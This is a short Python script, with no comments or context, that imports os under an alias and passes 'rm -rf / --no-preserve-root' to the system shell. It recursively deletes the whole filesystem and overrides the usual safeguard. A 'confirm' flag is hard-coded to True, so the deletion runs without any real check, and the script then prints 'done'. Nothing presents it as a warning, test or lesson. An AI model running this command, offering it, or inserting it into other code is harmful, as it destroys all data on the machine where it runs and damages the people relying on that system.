import os as o

confirm = True
if confirm:
    o.system("rm -rf / --no-preserve-root")
print("done")
